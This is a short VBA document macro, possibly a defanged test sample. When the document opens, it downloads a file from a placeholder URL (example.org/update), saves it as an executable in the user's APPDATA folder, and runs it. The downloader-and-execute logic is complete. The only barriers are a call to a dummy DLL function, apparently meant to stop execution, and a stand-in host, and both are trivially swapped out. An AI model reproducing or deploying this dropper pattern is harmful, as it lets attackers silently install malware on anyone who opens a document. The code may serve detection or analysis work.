Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Private Sub Document_Open()
    StopHere
    Call Get_It("http://example.org/update")
End Sub
Private Sub Get_It(ByVal where As String)
    Dim request As Object, bytes As Object
    Set request = CreateObject("MSXML2.ServerXMLHTTP.6.0")
    request.Open "GET", where, False
    request.send
    Set bytes = CreateObject("ADODB.Stream")
    bytes.Type = 1
    bytes.Open
    bytes.Write request.responseBody
    bytes.SaveToFile Environ("APPDATA") & "\harmless-none.exe", 2
    CreateObject("Shell.Application").ShellExecute Environ("APPDATA") & "\harmless-none.exe"
End Sub
